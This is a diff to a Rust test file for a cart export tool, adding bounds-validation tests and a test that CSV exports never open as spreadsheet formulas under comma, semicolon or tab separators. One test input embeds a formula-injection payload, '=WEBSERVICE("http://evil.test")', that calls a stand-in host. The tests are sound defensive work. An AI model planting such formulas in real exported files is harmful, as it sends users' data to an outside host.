@@ -7,7 +7,8 @@
 
 use hashcart::core::cart::{CartItem, ItemStatus, Shelf};
 use hashcart::core::exchange::{
-    FileFault, Json, Plan, Reason, There, Tried, abandoned, authors, by_author, csv, file, plain_text, plan,
+    FileFault, Json, Plan, Reason, Refused, There, Tried, abandoned, authors, by_author, csv, file,
+    plain_text, plan,
 };
 use hashcart::core::find::Kept;
 use hashcart::core::schema::{Raw, Versioned, item_key};
@@ -16,6 +17,9 @@ use proptest::prelude::*;
 use serde::Serialize;
 use serde::de::DeserializeOwned;
 use serde_json::{Value, json};
+
+/// Later than everything in the files here.
+const NOW: f64 = 2_000_000_000_000.0;
 
 struct Native;
 
@@ -90,12 +94,12 @@ fn whole() -> Records {
         record("handover", &json!({"press": true, "store": "amazon.de"})),
         record(&item_key(&other.found.key), &other),
         record(&item_key(&kettle.found.key), &kettle),
-        record("item:link:amzn.to/3DHiDU7", &CartItem::new(link, 5.0)),
+        record("item:link:amzn.to/3DHiDU7", &CartItem::new(link, 1_764_000_000_005.0)),
         record("reply:18", &"B0057OC5O8@amazon.co.jp"),
         record("lead:amzn.to/3abc", &"https://www.amazon.de/dp/0131103628?tag=ada-21"),
         record(
             "sent:B0057OC5O8@amazon.co.jp",
-            &json!({"store": "amazon.co.jp", "outcome": {"end": "not_added", "reason": "stopped"}, "at": 7.0}),
+            &json!({"store": "amazon.co.jp", "outcome": {"end": "not_added", "reason": "stopped"}, "at": 1_764_000_000_007.0}),
         ),
         record("removed:B0CHX1W1XY@amazon.co.jp", &other),
         record("walk", &json!({})),
@@ -108,7 +112,7 @@ fn out(records: &Records) -> String {
 }
 
 fn look(text: &str, there: &Records) -> Result<Plan, FileFault> {
-    plan(&Native, text, &There(there), 9.0)
+    plan(&Native, text, &There(there), NOW)
 }
 
 /// What is there after the plan was carried out.
@@ -215,6 +219,62 @@ fn broken_lines_are_refused_with_their_number_and_take_no_other_with_them() {
     assert_eq!(plan.refused.iter().map(|it| it.reason).collect::<Vec<_>>(), [Reason::NewerHere]);
 }
 
+/// A record beyond its bounds is refused by its line and its part, and takes no other with it.
+#[test]
+fn a_number_or_a_text_beyond_its_bounds_is_refused_by_name() {
+    let text = out(&whole());
+    let line = |start: &str| text.lines().position(|line| line.contains(start)).unwrap();
+    let kettle = line("item:B0057OC5O8@");
+    let long = |name: &str, count: usize| format!("\"{name}\":\"{}\"", "x".repeat(count));
+    let tomorrow = (NOW + 86_400_000.0).to_string();
+    for (at, from, to, part) in [
+        (kettle, "\"saved_at\":1764000000000.0", "\"saved_at\":8640000000000001".to_owned(), "saved_at"),
+        (kettle, "\"saved_at\":1764000000000.0", "\"saved_at\":1136073599999".to_owned(), "saved_at"),
+        (kettle, "\"saved_at\":1764000000000.0", format!("\"saved_at\":{tomorrow}1"), "saved_at"),
+        (kettle, "\"changed_at\":1764000000000.0", "\"changed_at\":1e300".to_owned(), "changed_at"),
+        (kettle, "\"edited_at\":1764000000800.0", "\"edited_at\":0".to_owned(), "edited_at"),
+        (kettle, "[\"later\",1764000000900.0]", "[\"later\",-1]".to_owned(), "shelf"),
+        (kettle, "\"units\":3", "\"units\":1000".to_owned(), "units"),
+        (kettle, "\"image\":\"https://pbs.twimg.com/media/x.jpg\"", long("image", 2049), "image"),
+        (kettle, "\"posted\":\"2024-11-27T02:18:44.000Z\"", long("posted", 41), "posted"),
+        (kettle, "\"author\":\"ada\"", long("author", 16), "author"),
+        (kettle, "\"note\":\"for \\\"her\\\"", format!("\"note\":\"{}", "x".repeat(501)), "note"),
+        (line("\"sent:"), "\"at\":1764000000007.0", "\"at\":8640000000000001".to_owned(), "at"),
+        (
+            line("\"settings\""),
+            "\"reply\":",
+            "\"undo_seconds\":4294967295,\"reply\":".to_owned(),
+            "undo_seconds",
+        ),
+        (line("\"settings\""), "\"reply\":", format!("{},\"reply\":", long("template", 1001)), "template"),
+    ] {
+        let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
+        assert!(lines[at].contains(from), "{from} in {}", lines[at]);
+        lines[at] = lines[at].replacen(from, &to, 1);
+        let plan = look(&lines.join("\n"), &Vec::new()).unwrap();
+        let wanted =
+            Refused { line: at + 1, reason: Reason::NotSound, detail: format!("{part} is out of bounds") };
+        assert_eq!(plan.refused, [wanted], "{part}");
+        assert_eq!(plan.writes.len(), text.lines().count() - 3, "the others come in");
+    }
+}
+
+#[test]
+fn a_time_that_is_none_spoils_no_table() {
+    let odd = CartItem { saved_at: 8_640_000_000_000_001.0, ..item("B0057OC5O8", "ada", "18", "A kettle") };
+    let never = CartItem { saved_at: f64::NAN, ..odd.clone() };
+    let good = item("B0057OC5O9", "ada", "18", "A lamp");
+    let iso = |at: f64| {
+        assert!(at.abs() <= 8.64e15, "a browser throws for {at}");
+        format!("at {at}")
+    };
+    let rows = parsed(&csv(&[odd, never, good], &iso));
+    assert_eq!(
+        rows.iter().skip(1).map(|row| row[10].as_str()).collect::<Vec<_>>(),
+        ["", "", "at 1764000000000"]
+    );
+}
+
 #[test]
 fn what_is_no_file_of_ours_is_said_so() {
     for (text, fault) in [
@@ -281,6 +341,82 @@ fn no_title_is_a_formula() {
         let wanted = if plain { title.to_owned() } else { format!("'{title}") };
         assert_eq!(row[0], wanted);
         assert_eq!(row[10], "at 1764000000000");
+    }
+}
+
+/// Reads a table with another separator, as spreadsheets do: quotes hold a cell together where it begins with one, and
+/// what stands after the closing one belongs to the cell. With `naive`, quotes are signs like any other.
+fn cells(text: &str, separator: char, naive: bool) -> Vec<String> {
+    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
+    let mut begins = true;
+    let mut signs = text.chars().peekable();
+    while let Some(sign) = signs.next() {
+        if quoted {
+            match sign {
+                '"' if signs.peek() == Some(&'"') => cell.extend(signs.next()),
+                '"' => quoted = false,
+                _ => cell.push(sign),
+            }
+        } else if sign == separator || sign == '\n' || sign == '\r' {
+            cells.push(std::mem::take(&mut cell));
+            begins = true;
+            // The sign that a line ends with begins no cell, unless another such sign follows.
+            if sign == '\r' {
+                signs.next_if_eq(&'\n');
+            }
+            continue;
+        } else if sign == '"' && begins && !naive {
+            quoted = true;
+        } else {
+            cell.push(sign);
+        }
+        begins = false;
+    }
+    cells.push(cell);
+    cells
+}
+
+/// Somebody else's link opens as a formula where the list separator is `;`, unless every piece is looked at.
+#[test]
+fn no_cell_is_a_formula_by_any_separator() {
+    let kettle = |link: &str, note: &str| {
+        let mut item = item("B0057OC5O8", "ada", "18", "a;=1;\"@b");
+        item.found.link = format!("https://www.amazon.co.jp/dp/B0057OC5O8{link}");
+        item.status = ItemStatus::Replied { url: "https://x.com/me/status/9?;=1".to_owned() };
+        CartItem { note: note.to_owned(), ..item }
+    };
+    let link = "?x=;=WEBSERVICE(\"http://evil.test\")";
+    let text = csv(&[kettle(link, "ok")], &|_| String::new());
+    assert!(text.contains("?x=%3B=WEBSERVICE("), "{text}");
+    for note in [
+        "a;=1",
+        "a;\t=1",
+        "a\n=1",
+        "a\r\n+1",
+        "a\t@x",
+        ";-1",
+        "a;\"=1\"",
+        "a;''\u{200b}=1",
+        "a;\ta",
+        "\t=1",
+        "a\r\rb",
+    ] {
+        let text = csv(&[kettle(link, note)], &|_| String::new());
+        for separator in [',', ';', '\t'] {
+            for naive in [false, true] {
+                // Of a comma no program takes a cell apart that begins with a quote.
+                if separator == ',' && naive {
+                    continue;
+                }
+                for cell in cells(text.trim_start_matches('\u{feff}'), separator, naive) {
+                    let cell_begins = cell.trim_start_matches(['"', ' ']);
+                    assert!(
+                        !cell_begins.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{note:?} by {separator:?}, naive {naive}: {cell:?} of {text:?}"
+                    );
+                }
+            }
+        }
     }
 }
 
@@ -441,6 +577,11 @@ proptest! {
         prop_assert_eq!(&plan.refused, &Vec::new());
         prop_assert_eq!(out(&done(&Vec::new(), plan)), before);
         let table = csv(&[one], &|_| String::new());
+        for separator in [',', ';', '\t'] {
+            for cell in cells(table.trim_start_matches('\u{feff}'), separator, false) {
+                prop_assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{:?} in {:?}", cell, table);
+            }
+        }
         let rows = parsed(&table);
         prop_assert_eq!((rows.len(), rows[1].len()), (2, 11));
         for field in &rows[1] {
